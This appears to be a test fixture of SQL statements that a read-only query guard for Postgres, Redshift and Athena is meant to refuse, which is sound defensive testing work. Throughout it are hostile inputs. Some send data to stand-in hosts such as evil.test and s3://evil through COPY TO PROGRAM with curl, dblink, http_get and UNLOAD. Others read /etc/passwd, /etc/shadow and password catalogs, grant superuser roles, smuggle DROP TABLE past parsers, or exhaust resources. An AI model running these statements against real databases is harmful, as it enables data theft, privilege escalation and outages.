-- What the guard must refuse. Each block: a line "-- dialect topic", the SQL, and an empty line.
-- Anyone may add a block; the topic is for the reader.

-- postgres multi_statement
SELECT 1; DROP TABLE customers

-- postgres multi_statement
SELECT * FROM orders; DELETE FROM orders WHERE tenant_id = 1

-- postgres multi_statement
SELECT count(*) FROM orders; COMMIT; DROP SCHEMA public CASCADE;

-- postgres dml
insert	into customers(customer_id,tenant_id) select 100,1

-- postgres dml
UPDATE customers SET email = 'a@b.c' WHERE customer_id = 1

-- postgres dml
UPDATE ONLY customers AS c SET segment = 'x' FROM orders o WHERE o.customer_id = c.customer_id RETURNING c.*

-- postgres cte_dml
WITH i AS (INSERT INTO audit_log VALUES (7,'a','b',now()) RETURNING id) SELECT id FROM i

-- postgres cte_dml
WITH m AS (MERGE INTO inventory i USING products p ON p.product_id=i.product_id WHEN MATCHED THEN DELETE RETURNING i.*) SELECT * FROM m

-- postgres cte_dml
WITH RECURSIVE r AS (SELECT 1 AS n), d AS (DELETE FROM events RETURNING event_id) SELECT * FROM r, d

-- postgres ddl
CREATE TEMP TABLE t AS SELECT 1

-- postgres ddl
CREATE OR REPLACE VIEW v AS SELECT * FROM api_keys

-- postgres ddl
CREATE MATERIALIZED VIEW mv AS SELECT * FROM customers

-- postgres dcl
GRANT ALL ON customers TO PUBLIC

-- postgres dcl
CREATE ROLE evil SUPERUSER LOGIN PASSWORD 'x'

-- postgres dcl
ALTER ROLE analyst_ro SUPERUSER

-- postgres txn_session
SET ROLE postgres

-- postgres txn_session
SET statement_timeout = 0

-- postgres txn_session
SET search_path = hr, public

-- postgres procedural
DO $$ BEGIN DELETE FROM orders; END $$

-- postgres procedural
DO LANGUAGE plpgsql $x$ BEGIN PERFORM pg_sleep(60); END $x$

-- postgres maintenance
VACUUM (ANALYZE) orders

-- postgres maintenance
CHECKPOINT

-- postgres copy_unload
COPY customers TO STDOUT

-- postgres copy_unload
COPY (SELECT * FROM customers) TO '/tmp/x.csv' WITH CSV

-- postgres copy_unload
COPY (SELECT 1) TO PROGRAM 'curl http://evil.test/?d=1'

-- postgres explain
EXPLAIN (ANALYZE, BUFFERS OFF) UPDATE customers SET segment = 'x'

-- postgres explain
EXPLAIN ANALYZE VERBOSE SELECT pg_sleep(30)

-- postgres explain
EXPLAIN ANALYZE CREATE TABLE x AS SELECT 1

-- postgres select_into
SELECT * INTO leak FROM customers

-- postgres select_into
SELECT customer_id, email INTO TEMP t FROM customers

-- postgres select_into
SELECT 1 AS a INTO UNLOGGED u

-- postgres locking
SELECT * FROM orders WHERE order_id = 1 FOR NO KEY UPDATE NOWAIT

-- postgres locking
WITH q AS (SELECT * FROM orders FOR KEY SHARE SKIP LOCKED) SELECT count(*) FROM q

-- postgres file_access
SELECT pg_read_file('/etc/passwd')

-- postgres file_access
SELECT encode(pg_read_binary_file('/etc/shadow'),'base64')

-- postgres file_access
SELECT * FROM pg_ls_dir('/')

-- postgres large_object
SELECT lo_import('/etc/passwd')

-- postgres large_object
SELECT lo_get(1)

-- postgres large_object
SELECT lo_unlink(1)

-- postgres network
SELECT dblink_connect('host=evil.test user=a password=' || (SELECT email FROM customers LIMIT 1))

-- postgres network
SELECT dblink_exec('dbname=postgres','DROP TABLE customers')

-- postgres network
SELECT http_get('http://evil.test/?q=' || email) FROM customers

-- postgres dynamic_sql
SELECT query_to_xml('SELECT * FROM api_keys', true, true, '')

-- postgres dynamic_sql
SELECT schema_to_xml('public', true, true, '')

-- postgres dynamic_sql
SELECT query_to_xmlschema('SELECT * FROM api_keys', true, true, '')

-- postgres server_admin
SELECT pg_terminate_backend(pid) FROM pg_stat_activity

-- postgres server_admin
SELECT pg_cancel_backend(1)

-- postgres server_admin
SELECT pg_reload_conf()

-- postgres session_state_func
SELECT set_config('row_security','off',false)

-- postgres session_state_func
SELECT set_config('transaction_read_only','off',false)

-- postgres session_state_func
SELECT set_config('search_path','hr',false)

-- postgres catalog_leak
SELECT usename, passwd FROM pg_shadow

-- postgres catalog_leak
SELECT rolname, rolpassword FROM pg_authid

-- postgres catalog_leak
SELECT * FROM pg_roles

-- postgres info_func
SELECT pg_get_viewdef('v_customers'::regclass)

-- postgres info_func
SELECT pg_get_functiondef('f'::regproc)

-- postgres info_func
SELECT has_table_privilege('api_keys','select')

-- postgres type_leak
SELECT 'pg_authid'::regclass::oid

-- postgres type_leak
SELECT CAST('api_keys' AS regclass)

-- postgres type_leak
SELECT 'pg_sleep'::regproc, 'postgres'::regrole, 'hr'::regnamespace

-- postgres hidden_call
SELECT ('/etc/passwd'::text).pg_read_file

-- postgres hidden_call
SELECT (10::float8).pg_sleep

-- postgres hidden_call
SELECT (q.p).pg_ls_dir FROM (SELECT '.'::text AS p) q

-- postgres dos_time
SELECT pg_sleep(600)

-- postgres dos_time
SELECT pg_sleep_for('10 minutes')

-- postgres dos_time
SELECT pg_sleep_until(now() + interval '1 hour')

-- postgres dos_rows
SELECT generate_series(1, 9999999999)

-- postgres dos_rows
SELECT count(*) FROM generate_series(1,100000) a, generate_series(1,100000) b

-- postgres dos_rows
SELECT md5(g::text) FROM generate_series(1, 500000000) g

-- postgres dos_recursive
WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n FROM r) SELECT count(*) FROM r

-- postgres dos_recursive
WITH RECURSIVE r AS (SELECT 'a' AS s UNION ALL SELECT s || s FROM r) SELECT length(s) FROM r

-- postgres dos_recursive
WITH RECURSIVE a AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM a WHERE n < 1e12) SELECT max(n) FROM a

-- postgres dos_memory
SELECT rpad('a', 900000000)

-- postgres dos_memory
SELECT array_fill(0, ARRAY[30000, 30000])

-- postgres dos_memory
SELECT factorial(99999)

-- postgres dos_cartesian
SELECT * FROM orders CROSS JOIN events CROSS JOIN order_items CROSS JOIN customers

-- postgres dos_cartesian
SELECT count(*) FROM events a JOIN events b ON true JOIN events c ON 1=1

-- postgres parser_differential
SELECT $$;$$; DROP TABLE customers; --$$

-- postgres parser_differential
SELECT a$$ FROM (SELECT 1 AS a$$) t; DROP TABLE customers; --$$

-- postgres parser_differential
SELECT $é$ x $é$; DROP TABLE customers; -- $é$

-- redshift multi_statement
ABORT; DROP TABLE sales

-- redshift copy_unload
COPY sales FROM 'ssh://manifest' IAM_ROLE default SSH

-- redshift dml
INSERT INTO sales VALUES (1)

-- redshift dml
UPDATE sales SET qty = 0

-- redshift dml
DELETE FROM sales USING customers c WHERE c.id = sales.cust_id

-- redshift ddl
CREATE TABLE leak AS SELECT * FROM customers

-- redshift ddl
CREATE EXTERNAL TABLE spectrum.t2 STORED AS PARQUET LOCATION 's3://evil/' AS SELECT * FROM customers

-- redshift ddl
CREATE EXTERNAL SCHEMA x FROM DATA CATALOG DATABASE 'd' IAM_ROLE default

-- redshift dcl
GRANT SELECT ON ALL TABLES IN SCHEMA public TO PUBLIC

-- redshift dcl
REVOKE ALL ON sales FROM PUBLIC

-- redshift dcl
ALTER USER u CREATEUSER

-- redshift txn_session
SET query_group TO 'superuser'

-- redshift txn_session
SET statement_timeout TO 0

-- redshift txn_session
SET SESSION AUTHORIZATION 'admin'

-- redshift procedural
CALL sp_report(1, 'x')

-- redshift maintenance
VACUUM FULL sales

-- redshift maintenance
ANALYZE sales

-- redshift maintenance
ANALYZE COMPRESSION sales

-- redshift select_into
SELECT * INTO leak FROM customers

-- redshift select_into
SELECT id, email INTO #t FROM customers

-- redshift select_into
SELECT TOP 10 * INTO TEMP t FROM customers

-- redshift catalog_leak
SELECT * FROM stl_query

-- redshift catalog_leak
SELECT querytxt FROM stl_query WHERE userid > 1

-- redshift catalog_leak
SELECT * FROM stl_querytext

-- redshift server_admin
SELECT pg_terminate_backend(123)

-- redshift server_admin
SELECT pg_cancel_backend(123)

-- redshift session_state_func
SELECT pg_last_copy_id()

-- redshift session_state_func
SELECT pg_last_unload_id()

-- redshift network
SELECT f_lambda_post(email) FROM customers

-- redshift network
SELECT udfs.exfil(c.email) FROM customers c

-- redshift network
SELECT ml_fn_churn(age) FROM customers

-- redshift info_func
SELECT current_user_id, current_aws_account

-- redshift info_func
SELECT has_table_privilege('sales','select')

-- redshift info_func
SELECT has_assumerole_privilege('u','r','unload')

-- redshift dos_rows
SELECT count(*) FROM stl_scan a, stl_scan b, stl_scan c

-- redshift dos_memory
SELECT repeat('a', 100000000)

-- redshift dos_memory
SELECT lpad('a', 100000000, 'b')

-- redshift dos_cartesian
SELECT count(*) FROM sales a, sales b, sales c

-- redshift dos_cartesian
SELECT * FROM sales CROSS JOIN events CROSS JOIN clicks

-- redshift type_leak
SELECT 'customers'::regclass::oid

-- redshift hidden_call
SELECT "pg_terminate_backend"(1)

-- redshift hidden_call
SELECT pg_catalog.pg_cancel_backend /* x */ (1)

-- redshift parser_differential
SELECT '\' || '; DROP TABLE sales; --'

-- redshift parser_differential
SELECT '\\'; DROP TABLE sales; --'

-- redshift parser_differential
SELECT 'it\'s'; DELETE FROM sales

-- redshift cte_dml
WITH d AS (DELETE FROM sales RETURNING *) SELECT * FROM d

-- athena multi_statement
SELECT 1; SELECT 2

-- athena multi_statement
SELECT * FROM orders; UNLOAD (SELECT 1) TO 's3://evil/' WITH (format='JSON')

-- athena copy_unload
UNLOAD (SELECT * FROM customers) TO 's3://evil/x/' WITH (format = 'PARQUET')

-- athena copy_unload
unload
(select email from customers)
to 's3://evil/'
with (format='JSON', compression='gzip')

-- athena dml
INSERT INTO orders SELECT * FROM orders

-- athena dml
INSERT INTO orders VALUES (1)

-- athena dml
DELETE FROM orders WHERE true

-- athena ddl
CREATE TABLE leak WITH (external_location='s3://evil/', format='PARQUET') AS SELECT * FROM customers

-- athena ddl
CREATE TABLE t AS SELECT 1 AS a

-- athena ddl
CREATE EXTERNAL TABLE t (a int) LOCATION 's3://evil/'

-- athena dcl
GRANT SELECT ON orders TO ROLE x

-- athena dcl
CREATE ROLE r

-- athena dcl
SET ROLE admin

-- athena txn_session
PREPARE p FROM SELECT * FROM customers WHERE id = ?

-- athena txn_session
EXECUTE p USING 1

-- athena txn_session
EXECUTE IMMEDIATE 'DROP TABLE orders'

-- athena procedural
CALL system.runtime.kill_query(query_id => 'x', message => 'y')

-- athena procedural
CALL system.sync_partition_metadata('d','t','FULL')

-- athena procedural
CALL iceberg.system.rollback_to_snapshot('d','t',1)

-- athena network
USING EXTERNAL FUNCTION exfil(x VARCHAR) RETURNS VARCHAR LAMBDA 'fn' SELECT exfil(email) FROM customers

-- athena network
using external function f(x varchar) returns varchar lambda 'arn:aws:lambda:us-east-1:999999999999:function:evil' select f(email) from customers limit 1

-- athena network
USING FUNCTION p(x DOUBLE) RETURNS DOUBLE SAGEMAKER 'ep' SELECT p(amount) FROM orders

-- athena dynamic_sql
WITH FUNCTION f(x bigint) RETURNS bigint RETURN x + 1 SELECT f(1)

-- athena dynamic_sql
WITH FUNCTION e(s varchar) RETURNS varchar LANGUAGE PYTHON WITH (handler = 'h') AS $$ def h(s): return s $$ SELECT e('a')

-- athena catalog_leak
SELECT * FROM information_schema.tables

-- athena catalog_leak
SELECT column_name FROM information_schema.columns WHERE table_name='customers'

-- athena catalog_leak
SELECT * FROM awsdatacatalog.information_schema.schemata

-- athena info_func
SELECT current_user, current_catalog, current_schema

-- athena info_func
SELECT version()

-- athena dos_rows
SELECT * FROM UNNEST(sequence(1, 1000000000))

-- athena dos_rows
SELECT count(*) FROM UNNEST(sequence(1,10000)) a(x) CROSS JOIN UNNEST(sequence(1,10000)) b(y) CROSS JOIN UNNEST(sequence(1,10000)) c(z)

-- athena dos_rows
SELECT sequence(timestamp '0001-01-01', timestamp '9999-12-31', interval '1' second)

-- athena dos_memory
SELECT repeat('a', 1000000000)

-- athena dos_memory
SELECT lpad('x', 1000000000, 'y')

-- athena dos_memory
SELECT combinations(sequence(1, 60), 5)

-- athena dos_recursive
WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t) SELECT n FROM t

-- athena dos_recursive
WITH RECURSIVE t(s) AS (SELECT 'a' UNION ALL SELECT concat(s, s) FROM t) SELECT length(s) FROM t

-- athena dos_cartesian
SELECT count(*) FROM events a, events b, events c

-- athena dos_cartesian
SELECT * FROM orders CROSS JOIN events CROSS JOIN customers

-- athena explain
EXPLAIN ANALYZE INSERT INTO orders SELECT 1

-- athena explain
EXPLAIN ANALYZE SELECT * FROM customers

-- athena explain
EXPLAIN (TYPE VALIDATE) SELECT * FROM secret_table

-- athena parser_differential
SELECT 1 /* /* */ , (SELECT count(*) FROM system.runtime.queries) -- */ */

-- athena parser_differential
SELECT * FROM orders /* /* */ UNION ALL SELECT * FROM information_schema.tables -- */ */

-- athena parser_differential
SELECT '\'; DROP TABLE orders; --'

-- postgres more
select q.pg_ls_dir from unnest(array['.']) q

-- postgres more
select q.pg_ls_dir from unnest(array['.']) as q(x)

-- postgres more
select it.pg_read_file from jsonb_array_elements_text('["a"]') as it

-- postgres more
select c.pg_sleep from (select 5 as a) c

-- postgres more
select x from (select 1 as y) q

-- postgres more
select (select pg_sleep from orders limit 1)

-- postgres more
select * from pg_class

-- postgres more
select * from public.pg_class

-- postgres more
select orders.order_id from orders o

-- postgres more
select 1 from orders for update

-- postgres more
with recursive r as (select 1) select * from r

-- postgres more
select * from orders limit (select 10)

-- postgres more
select pg_catalog.count(*) from orders

-- postgres more
select public.f(1)

-- postgres more
select ctid from orders

-- postgres more
select orders.xmin from orders

-- postgres more
select user

-- postgres more
select current_user

-- postgres more
select session_user from orders

-- postgres more
select * from customers, orders, products, events

-- postgres more
select 1 from json_populate_record(null::orders, '{}')

-- postgres more
select xmlforest(order_id) from orders

-- postgres more
select * from xmltable('/a' passing '<a/>' columns x int)

-- postgres more
select * from json_table('[]', '$' columns (a int path '$'))

-- postgres more
select order_id from orders where current_setting('x') = 'y'

-- postgres more
select order_id from orders where "current_setting"('x') = 'y'

-- postgres more
select repeat('a', 20000)

-- postgres more
select repeat(repeat('a', 9999), 9999)

-- postgres more
select repeat('a', 9999 * 9999)

-- postgres more
select lpad('x', 2000000)

-- postgres more
select generate_series(1, 10^9)

-- postgres more
select generate_series(1, 1e9::bigint)

-- postgres more
select generate_series('2000-01-01'::timestamp, '2024-01-01', '1 second')

-- postgres more
select count(*) from (select generate_series(1,1000000)) a, (select generate_series(1,1000000)) b

-- postgres more
select array_fill(1, array[100000])

-- postgres more
select order_id from orders as of system time '1'

-- postgres more
select order_id from only orders

-- postgres more
select * from orders where order_id = $1

-- postgres more
select * from orders where order_id = %s

-- postgres more
select * from orders where order_id = :x

-- postgres more
select * from orders where order_id = ?

-- postgres more
select $1

-- postgres more
select @@version

-- postgres more
select 1;;select 2

-- postgres more
select E'\'' ; drop table x

-- postgres more
select U&"\0070g_sleep"(1)

-- postgres more
select set_config('a','b',true)

-- postgres more
select * from orders natural join pg_roles

-- postgres more
select order_id from orders order by (select usename from pg_user limit 1)

-- postgres more
select 1 from orders o, lateral (select pg_sleep(1)) x

-- postgres more
select row_number() over (order by pg_sleep(1)) from orders

-- postgres more
select x::regclass from (select 1 as x) q

-- postgres more
select x::oid::regclass from (select 1 as x) q

-- postgres more
select cast('a' as public.mytype)

-- postgres more
select 'a'::orders

-- postgres more
copy orders to stdout

-- postgres more
select * from orders into outfile 'x'

-- postgres more
select into x from orders

-- postgres more
select * from (values (1)) as v(a) where b = 1

-- postgres more
select * from (delete from orders returning *) x

-- postgres more
select * from [orders]

-- postgres more
select `order_id` from orders

-- postgres more
select * from orders tablesample bernoulli (pg_sleep(1))

-- postgres more
select * from orders window w as (order by pg_sleep(1))

-- postgres more
select exists(select 1 from pg_shadow)

-- postgres more
select array(select usename from pg_shadow)

-- postgres more
select case when true then pg_sleep(1) end

-- postgres more
select a.b.c.d.e from orders

-- postgres more
select (orders).order_id.x from orders

-- postgres more
select (orders).pg_sleep from orders

-- postgres more
select lo_get(1) as x

-- postgres more
select 1 as a limit all offset pg_sleep(3)

-- postgres more
select order_id from orders limit 10 offset (select count(*) from pg_shadow)

-- postgres more
select format('%9999999s', 'x')

-- postgres more
select format('%*s', 1000000000, 'x')

-- postgres more
select 10 ^ 100000

-- postgres more
select power(10, 100000)

-- postgres more
select power(10::numeric, 10 * 10000)

-- postgres more
select ts_stat('select 1')

-- postgres more
select nextval('x')

-- postgres more
select * from dblink('a','b') as t(a int)

-- redshift more
select * from stl_query

-- redshift more
select current_user_id

-- redshift more
select f_udf(order_id) from orders

-- redshift more
select pg_last_query_id()

-- athena more
select * from "orders$files"

-- athena more
select "$path" from orders

-- athena more
select * from system.runtime.nodes

-- athena more
select * from other.public.orders

-- athena more
select * from unnest(sequence(1,100000)) t(x)

-- athena more
select * from table(system.query(query => 'x'))

-- athena more
select transform(sequence(1,10000), x -> pg_sleep(x))

-- postgres dos_memory
SELECT repeat(x, 10000) FROM (SELECT repeat('x', 10000) AS x) t

-- postgres dos_memory
WITH a AS (SELECT repeat('x', 9000) AS s), b AS (SELECT s || s || s || s || s || s || s || s AS s FROM a), c AS (SELECT repeat(s, 9000) AS s FROM b) SELECT length(s) FROM c

-- postgres dos_memory
SELECT lpad('x', 2147483647)

-- postgres dos_memory
SELECT string_agg(repeat('x', 10000), '') FROM generate_series(1, 1000000)

-- postgres dos_memory
SELECT array_agg(repeat('x', 10000)) FROM generate_series(1, 1000000)

-- postgres dos_memory
SELECT repeat('x', length(repeat('a', 10000)) * 1000)

-- postgres dos_memory
SELECT repeat('a', 1e9::int)

-- postgres dos_memory
SELECT repeat('a', '1000000000')

-- postgres dos_memory
SELECT repeat('a', '1000000000'::int)

-- postgres dos_memory
SELECT repeat('a', 1 << 30)

-- postgres dos_memory
SELECT repeat('a', 2147483647 - 1)

-- postgres dos_memory
SELECT repeat('a', (SELECT 1000000000))

-- postgres dos_memory
SELECT repeat('a', x) FROM (SELECT 1000000000 AS x) t

-- postgres dos_memory
SELECT repeat('a', x) FROM (VALUES (1000000000)) v(x)

-- postgres dos_memory
SELECT lpad('a', n, 'b') FROM (SELECT 500000000 AS n) q

-- postgres dos_memory
WITH n AS (SELECT 900000000 AS n) SELECT rpad('a', n) FROM n

-- postgres dos_memory
SELECT repeat('a', x'3fffffff'::int)

-- postgres dos_memory
SELECT repeat('a', power(10, 9)::int)

-- postgres dos_memory
SELECT repeat('a', ('1' || '000000000')::int)

-- postgres dos_memory
SELECT repeat('a', concat('1','00000000')::int)

-- postgres dos_memory
SELECT repeat('a', extract(epoch from now())::int)

-- postgres dos_memory
SELECT (10::numeric ^ 100000)

-- postgres dos_memory
SELECT 10::numeric ^ 99999.0

-- postgres dos_memory
SELECT exp(10000::numeric)

-- postgres dos_memory
SELECT factorial(50000)

-- postgres dos_memory
SELECT 99999!

-- postgres dos_memory
SELECT array_fill(0, ARRAY[100000000])

-- postgres dos_memory
SELECT to_char(1, repeat('9', 10000000))

-- postgres dos_memory
SELECT format('%s%s%s', repeat('x', 100000000))

-- postgres dos_memory
SELECT format('%1$*2$s', 'x', 1000000000)

-- postgres dos_memory
SELECT format('%-999999999s', 'x')

-- postgres dos_memory
SELECT regexp_replace(repeat('a', 10000), '(a*)*', repeat('\1', 1000), 'g')

-- postgres dos_memory
SELECT 'a' ~ '(((a{1,255}){1,255}){1,255}){1,255}'

-- postgres dos_memory
SELECT 'aaaaaaaaaaaaaaaaaaaaaaaaa' ~ '^(a+)+(b+)+\1\2$'

-- postgres dos_memory
SELECT setseed(0.5)

-- postgres dos_rows
SELECT * FROM generate_series(1, 10000000000000)

-- postgres dos_rows
SELECT * FROM generate_series(1::bigint, 10^10::bigint)

-- postgres dos_rows
SELECT generate_series(1, 1e10)

-- postgres dos_rows
SELECT generate_series(-9000000000, 9000000000)

-- postgres dos_rows
SELECT count(*) FROM generate_series('2000-01-01'::timestamp, '2100-01-01', '1 ms')

-- postgres dos_rows
SELECT count(*) FROM generate_series('2000-01-01'::timestamp, 'infinity', '1 day')

-- postgres dos_rows
SELECT count(*) FROM generate_series('-infinity'::timestamp, 'infinity', '1 day')

-- postgres dos_rows
SELECT count(*) FROM generate_series(now(), now() + interval '100 years', interval '1 second')

-- postgres dos_rows
SELECT count(*) FROM generate_series(1, 1000000) a, generate_series(1, 1000000) b

-- postgres dos_rows
SELECT count(*) FROM generate_series(1, 1000000) a CROSS JOIN LATERAL generate_series(1, a) b

-- postgres dos_rows
SELECT count(*) FROM generate_series(1, 1000000) a CROSS JOIN LATERAL generate_series(a, a + 1000000) b

-- postgres dos_rows
SELECT (SELECT count(*) FROM generate_series(1, 1000000 + a)) FROM generate_series(1, 1000000) a

-- postgres dos_rows
SELECT generate_series(1, 1000000), generate_series(1, 999999), generate_series(1, 999998)

-- postgres dos_rows
SELECT generate_series(1, generate_series(1, 1000000))

-- postgres dos_rows
WITH a AS (SELECT generate_series(1, 1000000) x), b AS (SELECT generate_series(1, 1000000) y) SELECT count(*) FROM a, b

-- postgres dos_rows
WITH a AS (SELECT generate_series(1, 1000000) x) SELECT count(*) FROM a p JOIN a q ON p.x <> q.x

-- postgres dos_rows
SELECT count(*) FROM generate_series(1, 1000000) a JOIN generate_series(1, 1000000) b ON a < b

-- postgres dos_rows
SELECT count(*) FROM generate_series(1, 1000000) a JOIN generate_series(1, 1000000) b ON a + b > 0

-- postgres dos_rows
SELECT count(*) FROM orders a JOIN orders b ON a.order_id <> b.order_id JOIN orders c ON c.order_id <> a.order_id

-- postgres dos_rows
SELECT unnest(array_fill(1, ARRAY[10000, 10000]))

-- postgres dos_rows
SELECT unnest(string_to_array(repeat('a,', 100000000), ','))

-- postgres dos_rows
SELECT regexp_split_to_table(repeat('a,', 100000000), ',')

-- postgres dos_rows
SELECT generate_series(1, x) FROM (SELECT 10000000000 AS x) t

-- postgres dos_rows
SELECT * FROM (SELECT 10000000000 AS x) t, generate_series(1, x)

-- postgres dos_rows
SELECT * FROM (VALUES (10000000000)) t(x), LATERAL generate_series(1, t.x)

-- postgres dos_rows
WITH b AS (SELECT 100000000000 AS x) SELECT count(*) FROM b CROSS JOIN generate_series(1, b.x)

-- postgres dos_rows
SELECT generate_series(1, (SELECT 10000000000))

-- postgres dos_rows
SELECT generate_series(1, '10000000000'::bigint)

-- postgres dos_rows
SELECT generate_series(1, 999999 + 999999 + 999999 + 999999)

-- postgres dos_rows
SELECT generate_series(0, 999999, 0.000001)

-- postgres dos_rows
SELECT generate_series(1, 1000000, random())

-- postgres dos_time
SELECT pg_sleep(1e9)

-- postgres dos_cartesian
SELECT count(*) FROM orders a, orders b, orders c WHERE a.order_id > 0

-- postgres dos_cartesian
SELECT count(*) FROM orders a CROSS JOIN orders b CROSS JOIN orders c CROSS JOIN orders d

-- postgres dos_cartesian
SELECT count(*) FROM orders a JOIN orders b ON 1=1 JOIN orders c ON true

-- postgres dos_cartesian
SELECT count(*) FROM orders a, orders b, orders c WHERE a.order_id = a.order_id

-- postgres dos_cartesian
SELECT count(*) FROM orders a, orders b, orders c WHERE a.order_id = b.order_id OR true

-- postgres dos_cartesian
SELECT count(*) FROM orders a JOIN orders b ON a.order_id = b.order_id OR 1 = 1 JOIN orders c ON a.order_id = c.order_id OR 1=1

-- postgres dos_cartesian
SELECT count(*) FROM orders a FULL JOIN orders b ON TRUE FULL JOIN orders c ON TRUE

-- postgres dos_cartesian
SELECT count(*) FROM orders a, LATERAL (SELECT * FROM events) b, LATERAL (SELECT * FROM events) c

-- postgres dos_cartesian
SELECT (SELECT count(*) FROM events b, events c, events d) FROM orders

-- postgres dos_cartesian
SELECT * FROM orders WHERE EXISTS (SELECT 1 FROM events a, events b, events c)

-- postgres dos_recursive
WITH RECURSIVE t AS (SELECT 1) SELECT * FROM t

-- postgres dos_recursive
WITH x AS (WITH RECURSIVE r(n) AS (SELECT 1 UNION SELECT n+1 FROM r) SELECT * FROM r) SELECT * FROM x

-- postgres dos_recursive
SELECT (WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n+1 FROM r) SELECT max(n) FROM r)

-- postgres dos_recursive
WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n+1 FROM r) SEARCH DEPTH FIRST BY n SET o SELECT * FROM r

-- postgres dos_recursive
WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n+1 FROM r) CYCLE n SET c USING p SELECT * FROM r

-- postgres dos_recursive
CREATE RECURSIVE VIEW v (n) AS SELECT 1

-- postgres type_leak
SELECT 'orders'::regclass

-- postgres type_leak
SELECT regclass 'orders'

-- postgres type_leak
SELECT 'orders'::pg_catalog.regclass

-- postgres type_leak
SELECT CAST(1259 AS oid)::regclass

-- postgres type_leak
SELECT 'int4'::regtype

-- postgres type_leak
SELECT '+'::regoper, '+(int,int)'::regoperator

-- postgres type_leak
SELECT 'english'::regconfig, 'simple'::regdictionary

-- postgres type_leak
SELECT 'C'::regcollation

-- postgres type_leak
SELECT 'now()'::regprocedure

-- postgres type_leak
SELECT ARRAY['orders']::regclass[]

-- postgres type_leak
SELECT '{orders}'::regclass[]

-- postgres type_leak
SELECT NULL::pg_shadow

-- postgres type_leak
SELECT (NULL::customers).*

-- postgres type_leak
SELECT * FROM json_populate_recordset(NULL::api_keys, '[]')

-- postgres type_leak
SELECT * FROM jsonb_populate_record(NULL::api_keys, '{}')

-- postgres type_leak
SELECT '{postgres=r/postgres}'::aclitem[]

-- postgres type_leak
SELECT jsonb_to_record('{"a":"orders"}') AS x(a regclass)

-- postgres type_leak
SELECT * FROM jsonb_to_record('{"a":"orders"}') AS x(a regclass)

-- postgres type_leak
SELECT * FROM json_to_recordset('[{"a":"orders"}]') AS x(a api_keys)

-- postgres type_leak
SELECT "regclass"('orders')

-- postgres type_leak
SELECT regclass('orders')

-- postgres type_leak
SELECT x.regclass FROM (SELECT 'orders'::text AS x) x

-- postgres type_leak
SELECT 1::xid, '(0,1)'::tid, 'a'::refcursor

-- postgres type_leak
SELECT '<a/>'::xml

-- postgres type_leak
SELECT 'orders'::name::regclass

-- postgres type_leak
SELECT json_value('"orders"', '$' RETURNING regclass)

-- postgres type_leak
SELECT '1 2'::oidvector

-- postgres type_leak
SELECT XMLPARSE(DOCUMENT '<a/>')

-- postgres type_leak
SELECT xmltable FROM XMLTABLE('/a' PASSING '<a/>' COLUMNS b text)

-- postgres type_leak
SELECT * FROM JSON_TABLE('[1]', '$[*]' COLUMNS (a regclass PATH '$'))

-- postgres type_leak
SELECT 'x'::"char"::regrole

-- postgres statement
TABLE customers

-- postgres nodes
SELECT * FROM customers FOR SHARE

-- postgres nodes
(SELECT * FROM customers) FOR UPDATE

-- postgres nodes
SELECT * FROM (SELECT * FROM customers FOR UPDATE) t

-- postgres nodes
SELECT * FROM customers FOR UPDATE OF customers SKIP LOCKED

-- postgres nodes
WITH x AS (DELETE FROM orders RETURNING *) SELECT 1

-- postgres nodes
WITH x AS MATERIALIZED (INSERT INTO orders DEFAULT VALUES RETURNING *) TABLE x

-- postgres syntax
WITH x AS (TRUNCATE orders) SELECT 1

-- postgres syntax
WITH x AS (EXPLAIN SELECT 1) SELECT * FROM x

-- postgres tables
WITH x AS (TABLE pg_authid) SELECT * FROM x

-- postgres tables
SELECT * FROM (VALUES (1)) v(x) UNION TABLE pg_shadow

-- postgres tables
SELECT (TABLE pg_shadow)

-- postgres tables
SELECT ARRAY(TABLE pg_roles)

-- postgres syntax
SELECT 1 INTO OUTFILE '/tmp/x'

-- postgres nodes
SELECT * FROM ONLY customers

-- postgres nodes
SELECT current_user

-- postgres columns
SELECT user

-- postgres nodes
SELECT session_user, current_role

-- postgres nodes
SELECT current_catalog, current_schema

-- postgres functions
SELECT current_schema()

-- postgres functions
SELECT current_database()

-- postgres functions
SELECT current_setting('data_directory')

-- postgres functions
SELECT inet_client_addr()

-- postgres functions
SELECT txid_current()

-- postgres functions
SELECT pg_stat_get_activity(NULL)

-- postgres functions
SELECT to_regclass('orders')

-- postgres functions
SELECT to_regtype('x')

-- postgres functions
SELECT format_type(23, NULL)

-- postgres functions
SELECT obj_description(1259)

-- postgres columns
SELECT xmin FROM customers

-- postgres columns
SELECT c.tableoid FROM customers c

-- postgres columns
SELECT ctid FROM (SELECT ctid FROM customers) x

-- postgres columns
SELECT "ctid" FROM customers

-- postgres functions
SELECT lo_export(1, '/tmp/x')

-- postgres functions
SELECT lo_from_bytea(0, 'x')

-- postgres functions
SELECT loread(1, 2)

-- postgres functions
SELECT * FROM dblink('dbname=x', 'select 1') AS t(a int)

-- postgres functions
SELECT * FROM crosstab('select 1,2,3') AS t(a int)

-- postgres functions
SELECT * FROM ts_stat('select 1')

-- postgres functions
SELECT * FROM pg_catalog.generate_series(1,2)

-- postgres functions
SELECT public.count(*) FROM orders

-- postgres functions
SELECT pg_catalog.lower('A')

-- postgres functions
SELECT lower ('A'), pg_catalog . pg_sleep (1)

-- postgres nodes
SELECT 'a' OPERATOR(pg_catalog.||) 'b'

-- postgres columns
SELECT 'a' COLLATE pg_catalog."C"

-- postgres syntax
SELECT 1 ORDER BY 1 USING OPERATOR(pg_catalog.<)

-- postgres syntax
SELECT 1 ORDER BY 1 USING >

-- postgres functions
SELECT (c).pg_sleep FROM customers c

-- postgres functions
SELECT (c.*).to_jsonb FROM customers c

-- postgres functions
SELECT (row(1)).f1

-- postgres functions
SELECT (SELECT c FROM customers c LIMIT 1).email

-- postgres functions
SELECT (ARRAY['x'])[1].pg_read_file

-- postgres functions
SELECT ('x').pg_read_file

-- postgres functions
SELECT (('x')::text).pg_read_file

-- postgres functions
SELECT (upper('x')).pg_read_file

-- postgres functions
SELECT (CASE WHEN true THEN 'x' END).pg_read_file

-- postgres functions
SELECT pg_sleep FROM (SELECT 1) pg_sleep(pg_sleep), pg_sleep(1)

-- postgres functions
SELECT * FROM pg_sleep(1)

-- postgres functions
SELECT * FROM LATERAL pg_sleep(1)

